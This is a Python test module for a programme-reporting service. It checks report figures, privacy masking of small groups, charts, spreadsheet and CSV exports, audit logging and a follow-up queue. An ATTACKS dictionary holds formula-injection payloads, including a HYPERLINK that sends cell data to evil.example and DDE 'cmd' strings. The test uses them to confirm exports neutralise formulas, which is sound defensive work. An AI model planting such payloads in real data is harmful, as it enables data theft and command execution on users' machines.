"""The coordinators' review against a real database (SQLite and PostgreSQL):
each number of /laporan on a small known programme, the charts as real PNGs,
the export as a real workbook, and the follow-up queue."""

from __future__ import annotations

import csv
import io
import json
import statistics
import struct
import uuid
import zipfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlalchemy.engine import URL, make_url

from conversations.reports import render_report
from tests.conftest import _admin_sql, pg_base_url
from tests.factories_reports import BATU, BUMIAJI, JUNREJO, Seeder, female_nik
from wrse_bot.clock import now
from wrse_bot.db.engine import Database
from wrse_bot.db.migrate import upgrade
from wrse_bot.db.models import Aid, AuditEvent, CheckIn, FollowUp, Registrant, Visit
from wrse_bot.domain.disclosure import Withheld
from wrse_bot.domain.statuses import FormName
from wrse_bot.forms.engine import Answer
from wrse_bot.forms.model import Form, Question
from wrse_bot.i18n import translator
from wrse_bot.services import charts
from wrse_bot.services.export import (
    SHEETS,
    SUMMARY,
    build_csv_zip,
    check_full_data_token,
    export,
    full_data_token,
    read_tables,
)
from wrse_bot.services.follow_up import NOTE_FORM, NOTE_SPEC, FollowUpService, open_follow_up
from wrse_bot.services.forms import FormRunner, FormSpec, Status
from wrse_bot.services.reports import Report, ReportFilter, build_report, publish
from wrse_bot.services.roles import Role

ID = translator("id")
ME, OTHER = 5001, 5002


@pytest.fixture(scope="module")
def pg_template() -> Iterator[URL]:
    """One migrated PostgreSQL database per module; each test gets a copy
    (CREATE DATABASE ... TEMPLATE is much faster than migrating anew)."""
    base = make_url(pg_base_url())
    name = f"wrse_tpl_{uuid.uuid4().hex[:12]}"
    _admin_sql(base, f'CREATE DATABASE "{name}"')
    template = base.set(database=name)
    try:
        upgrade(template.render_as_string(hide_password=False))
        yield template
    finally:
        _admin_sql(base, f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.fixture
def fast_pg_url(pg_template: URL) -> Iterator[str]:
    base = make_url(pg_base_url())
    name = f"wrse_t_{uuid.uuid4().hex[:12]}"
    _admin_sql(base, f'CREATE DATABASE "{name}" TEMPLATE "{pg_template.database}"')
    try:
        yield base.set(database=name).render_as_string(hide_password=False)
    finally:
        _admin_sql(base, f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.fixture(params=["sqlite", "postgresql"])
def report_db_url(request: pytest.FixtureRequest) -> str:
    """Both databases, as tests/conftest.py's db_url, with PostgreSQL cloned from a template."""
    return request.getfixturevalue("sqlite_url" if request.param == "sqlite" else "fast_pg_url")


@pytest.fixture
async def db(report_db_url: str) -> AsyncIterator[Database]:
    database = Database(report_db_url)
    yield database
    await database.dispose()


@dataclass
class Programme:
    k1: int
    k2: int
    checkins: dict[str, int]


async def seed_programme(db: Database) -> Programme:
    """Five women, two classes, seven check-ins (expected numbers in the tests).

    woman  kecamatan verdict       intake  interests  classes
    A      Junrejo   eligible      3       menjahit   K1 completed
    B      Junrejo   eligible      2       memasak    K2 completed, K1 cancelled
    C      Batu      eligible      4       menjahit   K1 completed
    D      Bumiaji   needs_review  5       menjahit   K1 waitlisted
    E      Batu      not_eligible  20      memasak    (registered 100 days ago)
    """
    long_ago = now() - timedelta(days=45)
    async with db.transaction() as s:
        seed = Seeder(s)
        a = await seed.woman(kecamatan=JUNREJO, bracket=3, name="Ani")
        b = await seed.woman(kecamatan=JUNREJO, bracket=2, interests=["memasak"], name="Budi")
        c = await seed.woman(kecamatan=BATU, bracket=4, name="Citra")
        d = await seed.woman(verdict="needs_review", kecamatan=BUMIAJI, bracket=5, name="Dewi")
        await seed.woman(
            verdict="not_eligible",
            kecamatan=BATU,
            bracket=20,
            interests=["memasak"],
            created_at=now() - timedelta(days=100),
            name="Eka",
        )
        k1 = await seed.klass(skill="menjahit", title="Menjahit Dasar")
        k2 = await seed.klass(skill="memasak", title="Memasak Sehat", kecamatan=BATU, sessions=1)
        ea = await seed.enrol(a, k1, completed=True)
        eb = await seed.enrol(b, k2, completed=True)
        ec = await seed.enrol(c, k1, completed=True)
        await seed.enrol(d, k1, status="waitlisted")
        await seed.enrol(b, k1, status="cancelled")
        s1, s2 = k1.sessions
        await seed.attend(ea, s1, True)
        await seed.attend(ec, s1, True)
        await seed.attend(ea, s2, True)
        await seed.attend(ec, s2, False)
        await seed.attend(eb, k2.sessions[0], True)
        ids = {
            "a30": await seed.checkin(
                ea,
                30,
                bracket=5,
                change="rose",
                business=True,
                obstacle="modal",
                due_at=long_ago,
            ),
            "a90": await seed.checkin(
                ea, 90, bracket=6, change="rose", business=True, obstacle="pemasaran"
            ),
            "c30": await seed.checkin(
                ec, 30, bracket=3, change="fell", business=False, obstacle="modal"
            ),
            "b30": await seed.checkin(eb, 30, status="no_response"),
            "b90": await seed.checkin(eb, 90, status="asked"),
            "c90": await seed.checkin(ec, 90, status="scheduled"),
            "a180": await seed.checkin(ea, 180, status="scheduled"),
        }
        return Programme(k1=k1.id, k2=k2.id, checkins={k: v.id for k, v in ids.items()})


def round_of(report: Report, days: int):  # type: ignore[no-untyped-def]
    return next(r for r in report.rounds if r.round_days == days)


# ---- the numbers ------------------------------------------------------------------------


async def test_registrations_are_counted_by_verdict_and_by_kecamatan(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    assert r.registrations == 5
    assert r.by_verdict == {"eligible": 3, "needs_review": 1, "not_eligible": 1}
    assert r.by_kecamatan == {JUNREJO: 2, BATU: 2, BUMIAJI: 1}


async def test_enrolments_attendance_and_completions(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    assert r.enrolments == {"enrolled": 3, "waitlisted": 1, "offered": 0, "cancelled": 1}
    assert (r.attendance_present, r.attendance_marked) == (4, 5)
    assert r.attendance_rate == pytest.approx(0.8)
    assert (r.women_enrolled, r.women_completed) == (3, 3)


async def test_response_rate_of_each_round_counts_only_check_ins_already_asked(
    db: Database,
) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    r30, r90, r180 = round_of(r, 30), round_of(r, 90), round_of(r, 180)
    assert (r30.asked, r30.answered, r30.no_response) == (3, 2, 1)
    assert r30.response_rate == pytest.approx(2 / 3)
    assert (r90.asked, r90.answered) == (2, 1)
    assert r90.response_rate == pytest.approx(0.5)
    assert r180.asked == 0 and r180.response_rate is None


async def test_income_medians_compare_the_same_women_before_and_after(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    assert r.intake_median == 4  # brackets 2, 3, 4, 5, 20
    r30 = round_of(r, 30)  # A 3 -> 5, C 4 -> 3
    assert (r30.pairs, r30.median_before, r30.median_after) == (2, 3.5, 4.0)
    assert r30.rose_share == pytest.approx(0.5)
    r90 = round_of(r, 90)  # A 3 -> 6
    assert (r90.pairs, r90.median_before, r90.median_after) == (1, 3.0, 6.0)
    assert r90.rose_share == 1
    assert round_of(r, 180).pairs == 0


async def test_medians_match_the_textbook_for_odd_and_even_counts(db: Database) -> None:
    samples = {
        (BATU, "menjahit"): [7],
        (BATU, "memasak"): [1, 2],
        (BUMIAJI, "menjahit"): [1, 1, 2, 2],
        (BUMIAJI, "memasak"): [5, 1, 3, 3, 9, 0],
        (JUNREJO, "menjahit"): [2, 2, 2, 7],
        (JUNREJO, "memasak"): [0, 12, 4],
    }
    async with db.transaction() as s:
        seed = Seeder(s)
        for (kecamatan, skill), brackets in samples.items():
            for b in brackets:
                await seed.woman(kecamatan=kecamatan, bracket=b, interests=[skill])
    for (kecamatan, skill), brackets in samples.items():
        r = await build_report(db, ReportFilter(kecamatan=kecamatan, skill=skill))
        assert r.intake_median == statistics.median(brackets), (kecamatan, skill)


async def test_business_share_counts_women_not_answers(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    # A answered twice (both "yes"), C once ("no").
    assert (r.women_business, r.women_answered) == (1, 2)
    assert r.business_share == pytest.approx(0.5)


async def test_obstacles_are_counted_most_named_first(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    assert list(r.obstacles.items()) == [("modal", 2), ("pemasaran", 1)]


async def test_funnel_goes_from_registration_to_check_in(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    assert dict(r.funnel) == {
        "registered": 5,
        "eligible": 3,
        "enrolled": 3,
        "completed": 3,
        "answered": 2,
    }


async def test_kecamatan_filter_counts_the_women_living_there(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter(kecamatan=JUNREJO))
    assert r.registrations == 2 and r.by_kecamatan == {JUNREJO: 2}
    assert r.enrolments == {"enrolled": 2, "waitlisted": 0, "offered": 0, "cancelled": 1}
    r30 = round_of(r, 30)
    assert (r30.asked, r30.answered) == (2, 1)
    assert r.obstacles == {"modal": 1, "pemasaran": 1}


async def test_skill_filter_uses_interests_and_classes_of_that_skill(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter(skill="menjahit"))
    assert r.registrations == 3  # A, C, D are interested in menjahit
    assert r.enrolments == {"enrolled": 2, "waitlisted": 1, "offered": 0, "cancelled": 1}
    assert (round_of(r, 30).asked, round_of(r, 30).answered) == (2, 2)
    assert r.women_answered == 2


async def test_class_filter_counts_the_women_of_that_class(db: Database) -> None:
    p = await seed_programme(db)
    r = await build_report(db, ReportFilter(class_id=p.k2))
    assert dict(r.funnel) == {
        "registered": 1,
        "eligible": 1,
        "enrolled": 1,
        "completed": 1,
        "answered": 0,
    }
    assert r.class_title == "Memasak Sehat"
    assert r.registrations == 1 and r.by_kecamatan == {JUNREJO: 1}  # B
    assert r.enrolments["enrolled"] == 1
    assert (round_of(r, 30).asked, round_of(r, 30).answered) == (1, 0)
    assert r.attendance_marked == 1


async def test_period_filter_counts_what_happened_in_it(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter(period="30"))
    assert r.registrations == 4  # E registered 100 days ago
    r30 = round_of(r, 30)  # A's 30-day check-in fell due 45 days ago
    assert (r30.asked, r30.answered) == (2, 1)
    assert r.obstacles == {"modal": 1, "pemasaran": 1}
    # The funnel follows the women registered in the period, however late they answered.
    assert dict(r.funnel) == {
        "registered": 4,
        "eligible": 3,
        "enrolled": 3,
        "completed": 3,
        "answered": 2,
    }
    r90 = await build_report(db, ReportFilter(period="90"))
    assert r90.registrations == 4 and round_of(r90, 30).answered == 2


def test_this_year_starts_on_1_january_in_wib() -> None:
    at = datetime(2026, 6, 1, 5, 0, tzinfo=UTC)
    since = ReportFilter(period="y").since(at)
    assert since is not None
    assert since.astimezone(UTC) == datetime(2025, 12, 31, 17, 0, tzinfo=UTC)
    assert ReportFilter().since(at) is None


async def test_an_empty_programme_reports_zeros_not_errors(db: Database) -> None:
    r = await build_report(db, ReportFilter())
    assert r.registrations == 0 and r.intake_median is None
    assert all(rs.response_rate is None for rs in r.rounds)
    assert r.business_share is None and r.obstacles == {}
    for _, png in charts.all_charts(publish(r, 5), ID):
        assert png.startswith(b"\x89PNG\r\n\x1a\n")


# ---- no figure singles a woman out ------------------------------------------------------


async def seed_one_woman(db: Database) -> None:
    """Ani alone: Rp700.000 at intake, Rp900.000 at her 30-day check-in."""
    async with db.transaction() as s:
        seed = Seeder(s)
        ani = await seed.woman(bracket=7, name="Ani")
        k = await seed.klass()
        e = await seed.enrol(ani, k, completed=True)
        await seed.attend(e, k.sessions[0], True)
        await seed.checkin(e, 30, bracket=9, change="rose", business=True, obstacle="modal")


def summary_of(wb: Workbook) -> dict[str, object]:
    """The summary sheet as {figure: value} (an empty value ends its row early)."""
    rows = list(wb[SUMMARY].iter_rows(values_only=True))[1:]
    return {row[0]: row[1] if len(row) > 1 else None for row in rows}


async def test_one_registrant_shows_no_exact_median_or_income(db: Database) -> None:
    await seed_one_woman(db)
    shown = publish(await build_report(db, ReportFilter()), 5)
    text = render_report(shown, ID)
    assert "700.000" not in text and "900.000" not in text
    assert "<b>Pendaftaran:</b> &lt; 5" in text
    assert "Saat mendaftar: &lt; 5" in text
    assert "30 hari: &lt; 5 → &lt; 5 (n=&lt; 5)" in text
    assert "Memulai usaha:</b> &lt; 5 dari &lt; 5 ibu (&lt; 5)" in text
    assert "Modal &lt; 5" in text
    assert shown.intake_median == Withheld(5) and shown.registrations == Withheld(5)


async def test_chart_data_over_fewer_than_five_women_is_withheld(db: Database) -> None:
    await seed_one_woman(db)
    shown = publish(await build_report(db, ReportFilter()), 5)
    income = charts.income_data(shown, ID)
    assert income["before"] == [0.0] and income["after"] == [0.0]  # no bar length
    assert income["before_labels"] == ["< 5"] and income["after_labels"] == ["< 5"]
    assert "n=< 5" in income["ticks"][0]
    for labels_values in (charts.funnel_data(shown, ID), charts.obstacles_data(shown, ID)):
        _, values = labels_values
        lengths, labels = charts.bars_data(values, ID, total=values[0])
        assert all(v == Withheld(5) for v in values)
        assert set(lengths) == {0.0} and set(labels) == {"< 5"}
    for _, png in charts.all_charts(shown, ID):
        assert png.startswith(b"\x89PNG\r\n\x1a\n")


async def test_summary_sheet_cells_over_fewer_than_five_women_read_less_than_five(
    db: Database,
) -> None:
    await seed_one_woman(db)
    result = await export(db, ME, "xlsx", masked=True, update_id=None, min_group=5)
    assert result is not None
    wb = load_workbook(io.BytesIO(result.data), read_only=True)
    assert wb.sheetnames == [*SHEETS, SUMMARY]
    summary = summary_of(wb)
    for figure in (
        "registrations",
        "verdict_eligible",
        "intake_median_income",
        "checkin_30d_median_income_before",
        "checkin_30d_median_income_after",
        "women_started_business",
        "obstacle_modal",
        "funnel_registered",
    ):
        assert summary[figure] == "< 5", figure
    assert 700_000 not in summary.values() and 900_000 not in summary.values()

    zipped = await export(db, ME, "csv", masked=True, update_id=None, min_group=5)
    assert zipped is not None
    with zipfile.ZipFile(io.BytesIO(zipped.data)) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("summary.csv").decode("utf-8-sig"))))
    assert dict(rows[1:])["intake_median_income"] == "< 5"
    assert not any(value in ("700000", "900000") for _, value in rows[1:])


async def test_figures_over_five_women_or_more_are_shown_exactly(db: Database) -> None:
    await seed_programme(db)
    shown = publish(await build_report(db, ReportFilter()), 5)
    assert shown.registrations == 5 and shown.intake_median == 4  # five women with an income
    assert shown.by_verdict == {"eligible": Withheld(5), "needs_review": Withheld(5)} | {
        "not_eligible": Withheld(5)
    }
    assert shown.enrolments["enrolled"] == Withheld(5) and shown.enrolments["offered"] == 0
    result = await export(db, ME, "xlsx", masked=True, update_id=None, min_group=5)
    assert result is not None
    wb = load_workbook(io.BytesIO(result.data), read_only=True)
    summary = summary_of(wb)
    assert summary["registrations"] == 5 and summary["intake_median_income"] == 400_000


# ---- charts -------------------------------------------------------------------------------


def png_size(data: bytes) -> tuple[int, int]:
    try:
        from PIL import Image
    except ImportError:  # the IHDR chunk: width and height right after the signature
        return struct.unpack(">II", data[16:24])
    with Image.open(io.BytesIO(data)) as image:
        image.verify()
    with Image.open(io.BytesIO(data)) as image:
        return image.size


async def test_the_three_charts_are_real_pngs_wide_enough_for_a_phone(db: Database) -> None:
    await seed_programme(db)
    r = await build_report(db, ReportFilter())
    pictures = charts.all_charts(publish(r, 1), ID)
    assert [name for name, _ in pictures] == ["pendapatan", "hambatan", "alur"]
    for _, png in pictures:
        assert png.startswith(b"\x89PNG\r\n\x1a\n")
        width, height = png_size(png)
        assert width == 1080 and 600 <= height <= 1400
        assert len(png) > 10_000  # drawn, not blank


# ---- export --------------------------------------------------------------------------------


async def test_xlsx_has_every_sheet_with_headers_and_masked_niks(db: Database) -> None:
    await seed_programme(db)
    result = await export(db, ME, "xlsx", masked=True, update_id=None)
    assert result is not None and result.filename.endswith(".xlsx")
    wb = load_workbook(io.BytesIO(result.data), read_only=True)
    assert wb.sheetnames == [*SHEETS, SUMMARY]
    rows = list(wb["registrants"].iter_rows(values_only=True))
    header = rows[0]
    assert header[:4] == ("id", "created_at_wib", "initials", "nik_given")
    niks = {row[header.index("initials")]: row[header.index("nik_given")] for row in rows[1:]}
    assert niks == {"A.": True, "B.": True, "C.": True, "D.": True, "E.": True}
    assert result.counts == {
        "registrants": 5,
        "decisions": 5,
        "enrolments": 5,
        "attendance": 5,
        "checkins": 7,
        "aid": 0,
        "visits": 0,
    }
    checkins = list(wb["checkins"].iter_rows(values_only=True))
    assert "income_change" in checkins[0] and len(checkins) == 8


async def test_the_aid_sheet_keeps_the_reason_for_a_second_aid_to_full_data(
    db: Database,
) -> None:
    await seed_programme(db)
    async with db.transaction() as s:
        reg = await s.scalar(select(Registrant.id).order_by(Registrant.id))
        s.add(
            Aid(
                registrant_id=reg,
                kind="mesin_jahit",
                value=2_000_000,
                given_on=date(2026, 11, 2),
                source="=APBD",
                repeat_reason="rumahnya kebanjiran",
            )
        )
    for masked in (True, False):
        result = await export(db, ME, "xlsx", masked=masked, update_id=None)
        assert result is not None and result.counts["aid"] == 1
        header, row = list(
            load_workbook(io.BytesIO(result.data))["aid"].iter_rows(values_only=True)
        )
        aid = dict(zip(header, row, strict=True))
        assert (aid["kind"], aid["value_rupiah"], aid["source"]) == (
            "mesin_jahit",
            2_000_000,
            "'=APBD",
        )
        assert ("repeat_reason" in aid) is not masked


async def test_the_visits_sheet_keeps_what_was_said_to_full_data(db: Database) -> None:
    await seed_programme(db)
    async with db.transaction() as s:
        reg = await s.scalar(select(Registrant.id).order_by(Registrant.id))
        s.add(
            Visit(
                registrant_id=reg,
                companion_id=8801,
                visited_on=date(2026, 11, 3),
                talked="=utang di warung",
                obstacles=["percaya_diri", "tetangga"],
                next_step="ke pasar Minggu",
                next_on=date(2026, 11, 17),
            )
        )
    for masked in (True, False):
        result = await export(db, ME, "xlsx", masked=masked, update_id=None)
        assert result is not None and result.counts["visits"] == 1
        header, row = list(
            load_workbook(io.BytesIO(result.data))["visits"].iter_rows(values_only=True)
        )
        visit = dict(zip(header, row, strict=True))
        assert visit["obstacles"] == "percaya_diri, tetangga" and visit["companion_id"] == 8801
        assert ("talked" in visit) is not masked and ("next_step" in visit) is not masked
        if not masked:
            assert visit["talked"] == "'=utang di warung"  # formula-safe


async def test_full_niks_only_when_asked_and_every_export_is_audited(db: Database) -> None:
    await seed_programme(db)
    result = await export(db, ME, "xlsx", masked=False, update_id=None)
    assert result is not None and "lengkap" in result.filename
    wb = load_workbook(io.BytesIO(result.data), read_only=True)
    rows = list(wb["registrants"].iter_rows(values_only=True))
    name_col, nik_col = rows[0].index("full_name"), rows[0].index("nik")
    niks = {row[name_col]: row[nik_col] for row in rows[1:]}
    assert niks["Ani"] == female_nik(1, JUNREJO) and niks["Citra"] == female_nik(3, BATU)
    assert not any("*" in nik for nik in niks.values())
    async with db.sessions() as s:
        event = await s.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
    assert event is not None and event.actor_id == ME and event.at is not None
    detail = json.loads(event.detail or "")
    assert detail["format"] == "xlsx" and detail["nik"] == "full"
    assert detail["rows"]["registrants"] == 5


async def test_csv_option_is_a_zip_of_the_five_tables(db: Database) -> None:
    await seed_programme(db)
    result = await export(db, ME, "csv", masked=True, update_id=None)
    assert result is not None and result.filename.endswith(".zip")
    with zipfile.ZipFile(io.BytesIO(result.data)) as zf:
        assert sorted(zf.namelist()) == sorted(f"{n}.csv" for n in (*SHEETS, SUMMARY))
        text = zf.read("registrants.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 5 and all(r["nik_given"] == "True" and "nik" not in r for r in rows)
    tables = await read_tables(db)
    unmasked = build_csv_zip(tables, masked=False)
    with zipfile.ZipFile(io.BytesIO(unmasked)) as zf:
        assert female_nik(1) in zf.read("registrants.csv").decode("utf-8-sig")


# Each of these makes a spreadsheet cell a formula (or a command, in old Excel).
ATTACKS = {
    "address": '=HYPERLINK("http://evil.example/?d="&B2,"Klik")',
    "occupation_other": "+cmd|' /C calc'!A0",
    "full_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "business_kind": "-2+3+cmd|' /C calc'!A0",
    "obstacle_other": "\t=1+1",
    "class_title": "\r=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


async def seed_attacks(db: Database) -> None:
    async with db.transaction() as s:
        seed = Seeder(s)
        woman = await seed.woman(name=ATTACKS["full_name"])
        woman.address = ATTACKS["address"]
        woman.occupation_other = ATTACKS["occupation_other"]
        klass = await seed.klass(title=ATTACKS["class_title"])
        e = await seed.enrol(woman, klass, completed=True)
        await seed.checkin(
            e,
            30,
            bracket=4,
            business=True,
            business_kind=ATTACKS["business_kind"],
            obstacle="lainnya",
            obstacle_other=ATTACKS["obstacle_other"],
        )


@pytest.mark.parametrize("masked", [True, False])
async def test_no_xlsx_or_csv_cell_is_a_formula(db: Database, masked: bool) -> None:
    await seed_attacks(db)
    result = await export(db, ME, "xlsx", masked=masked, update_id=None)
    assert result is not None
    wb = load_workbook(io.BytesIO(result.data))  # not read-only: data_type as stored
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(DANGEROUS), (ws.title, cell.value)
                    texts.append(cell.value)
    assert "'" + ATTACKS["business_kind"] in texts  # kept, as text
    assert any(t.startswith("'") and t.endswith("=1+1") for t in texts), [
        t for t in texts if "=1+1" in t
    ]
    if not masked:
        assert "'" + ATTACKS["address"] in texts and "'" + ATTACKS["full_name"] in texts

    zipped = await export(db, ME, "csv", masked=masked, update_id=None)
    assert zipped is not None
    values = []
    with zipfile.ZipFile(io.BytesIO(zipped.data)) as zf:
        for name in zf.namelist():
            text = zf.read(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(text, newline="")):
                for value in row:
                    assert not value.startswith(DANGEROUS), (name, value)
                    values.append(value)
    assert "'" + ATTACKS["obstacle_other"] in values
    if not masked:
        assert "'" + ATTACKS["occupation_other"] in values


NIK = "3579035203807351"  # Junrejo, a woman born 12 March 1980, serial 7351


async def test_masked_export_holds_nothing_to_rebuild_who_she_is(db: Database) -> None:
    async with db.transaction() as s:
        seed = Seeder(s)
        siti = await seed.woman(name="Siti Nur Aminah", nik=NIK, phone="+628521234890")
        siti.birth_date = date(1980, 3, 12)
        siti.address = "Jl. Mawar 5, RT 02 RW 03"
        siti.monthly_income = "350000"
        k = await seed.klass()
        e = await seed.enrol(siti, k, completed=True)
        await seed.checkin(e, 30, bracket=6, change="rose")
    at = date.today()
    band = (at.year - 1980 - ((at.month, at.day) < (3, 12))) // 5 * 5
    result = await export(db, ME, "xlsx", masked=True, update_id=None)
    assert result is not None and "lengkap" not in result.filename
    wb = load_workbook(io.BytesIO(result.data), read_only=True)
    header, row = list(wb["registrants"].iter_rows(values_only=True))
    got = dict(zip(header, row, strict=False))
    assert not {"full_name", "nik", "birth_date", "address", "monthly_income"} & set(header)
    assert got["initials"] == "S. N. A."
    assert got["nik_given"] is True
    assert got["age_band"] == f"{band}-{band + 4}"
    assert got["phone"] == "0852****890"
    assert got["monthly_income_range"] == "300000-399999"
    checkin_header, checkin = list(wb["checkins"].iter_rows(values_only=True))
    assert dict(zip(checkin_header, checkin, strict=False))["income_range"] == "600000-699999"
    assert "income" not in checkin_header
    # Row ids are the database's counters, not her data (on a shared PostgreSQL
    # test database one may well read 1980): the scan reads every other cell.
    cells = []
    for ws in wb.worksheets:
        rows = list(ws.iter_rows(values_only=True))
        ids = {
            i for i, h in enumerate(rows[0] if rows else ()) if h == "id" or str(h).endswith("_id")
        }
        cells += [str(v) for r in rows for i, v in enumerate(r) if v and i not in ids]
    for secret in (NIK[-4:], NIK[6:12], "Aminah", "Mawar", "350000", "1980"):
        assert not any(secret in c for c in cells), secret
    assert 350_000 not in cells and 600_000 not in cells

    full = await export(db, ME, "xlsx", masked=False, update_id=None)
    assert full is not None
    header, row = list(
        load_workbook(io.BytesIO(full.data), read_only=True)["registrants"].iter_rows(
            values_only=True
        )
    )
    got = dict(zip(header, row, strict=False))
    assert (got["full_name"], got["nik"], got["phone"]) == ("Siti Nur Aminah", NIK, "08521234890")
    assert got["monthly_income"] == 350_000 and got["address"] == "Jl. Mawar 5, RT 02 RW 03"


def test_full_data_confirmation_cannot_be_forged_or_reused_late() -> None:
    issued = int(now().timestamp())
    token = full_data_token("secret-1", ME, "xlsx", issued)
    assert check_full_data_token("secret-1", ME, "xlsx", issued, token)
    assert not check_full_data_token("secret-1", OTHER, "xlsx", issued, token)
    assert not check_full_data_token("secret-1", ME, "csv", issued, token)
    assert not check_full_data_token("secret-2", ME, "xlsx", issued, token)
    later = now() + timedelta(minutes=11)
    assert not check_full_data_token("secret-1", ME, "xlsx", issued, token, at=later)


# ---- follow-up -------------------------------------------------------------------------------


async def test_open_follow_up_adds_each_reason_once_while_open(db: Database) -> None:
    p = await seed_programme(db)
    async with db.transaction() as s:
        first = await open_follow_up(s, p.checkins["c30"], "income_fell")
        again = await open_follow_up(s, p.checkins["c30"], "income_fell")
        other = await open_follow_up(s, p.checkins["c30"], "wants_contact")
    assert first is not None and again is None and other is not None
    with pytest.raises(ValueError):
        async with db.transaction() as s:
            await open_follow_up(s, p.checkins["c30"], "bored")


async def test_queue_is_oldest_first_and_every_card_shown_is_audited(db: Database) -> None:
    p = await seed_programme(db)
    async with db.transaction() as s:
        seed = Seeder(s)
        for key, reason, age in (("b30", "no_response", 1), ("c30", "income_fell", 3)):
            ci = await s.get(CheckIn, p.checkins[key])
            await seed.follow_up(ci, reason, created_at=now() - timedelta(days=age))
    queue = await FollowUpService(db).queue(ME)
    assert queue.total == 2
    assert [c.reason for c in queue.cards] == ["income_fell", "no_response"]
    first = queue.cards[0]
    assert (first.name, first.class_title, first.round_days) == ("Citra", "Menjahit Dasar", 30)
    assert first.phone == "+6281234567890" and first.obstacle == "modal"
    async with db.sessions() as s:
        views = (
            await s.scalars(select(AuditEvent).where(AuditEvent.action == "view_follow_up"))
        ).all()
    assert len(views) == 2 and {v.actor_id for v in views} == {ME}


async def one_follow_up(db: Database) -> int:
    p = await seed_programme(db)
    async with db.transaction() as s:
        fu = await open_follow_up(s, p.checkins["c30"], "income_fell")
        assert fu is not None
        return fu.id


async def test_only_one_coordinator_can_take_a_follow_up(db: Database) -> None:
    fid = await one_follow_up(db)
    service = FollowUpService(db)
    mine = await service.assign(ME, fid, update_id=None)
    theirs = await service.assign(OTHER, fid, update_id=None)
    assert mine.outcome == "done" and theirs.outcome == "taken"
    assert (await service.assign(ME, fid, update_id=None)).outcome == "mine"
    assert (await service.resolve(OTHER, fid, update_id=None)).outcome == "taken"
    async with db.sessions() as s:
        assert (await s.get(FollowUp, fid)).assigned_to == ME  # type: ignore[union-attr]


async def a_coordinator(s: object, user_id: int) -> Role:
    return Role.COORDINATOR


async def test_a_note_is_typed_through_the_note_form_then_resolved(db: Database) -> None:
    fid = await one_follow_up(db)
    service, runner = FollowUpService(db), FormRunner(db, [NOTE_SPEC], a_coordinator)
    opened = await runner.open(ME, NOTE_FORM, fid)
    assert opened.status == Status.ASK and opened.state.answers["_id"] == fid
    typed = Answer("text", "  Sudah ditelepon,  akan datang Senin ")
    saved = await runner.handle(ME, None, typed)
    assert saved.status == Status.DONE and await runner.active(ME) is None
    (result,) = saved.notices
    assert result.outcome == "done" and result.card.note == "Sudah ditelepon, akan datang Senin"
    await runner.open(ME, NOTE_FORM, fid)
    await runner.handle(ME, None, Answer("text", "Modal usaha diajukan"))
    done = await service.resolve(ME, fid, update_id=None)
    assert done.outcome == "done" and done.card is not None
    assert done.card.note == "Sudah ditelepon, akan datang Senin\nModal usaha diajukan"
    assert done.card.resolved_at is not None and done.card.assigned_to == ME
    assert (await service.queue(ME)).total == 0


async def test_a_note_pauses_another_open_form_and_a_resolved_one_closes_it(db: Database) -> None:
    fid = await one_follow_up(db)
    other = FormSpec(Form(FormName.BROADCAST, (Question("x", "X?", parse=lambda text, a: text),)))
    runner = FormRunner(db, [NOTE_SPEC, other], a_coordinator)
    await runner.open(ME, other.name)
    assert (await runner.open(ME, NOTE_FORM, fid)).paused == other.name
    await FollowUpService(db).resolve(OTHER, fid, update_id=None)
    # Resolved meanwhile: her next message is not a note, and nothing was written.
    assert (await runner.handle(ME, None, Answer("text", "Catatan"))).status == Status.NONE
    async with db.sessions() as s:
        assert (await s.get(FollowUp, fid)).note is None  # type: ignore[union-attr]
    assert await runner.paused_forms(ME) == [other.name]


async def test_a_redelivered_update_is_applied_once(db: Database) -> None:
    fid = await one_follow_up(db)
    service = FollowUpService(db)
    assert (await service.assign(ME, fid, update_id=77)).outcome == "done"
    assert (await service.resolve(ME, fid, update_id=77)).outcome == "duplicate"
    async with db.sessions() as s:
        assert (await s.get(FollowUp, fid)).resolved_at is None  # type: ignore[union-attr]
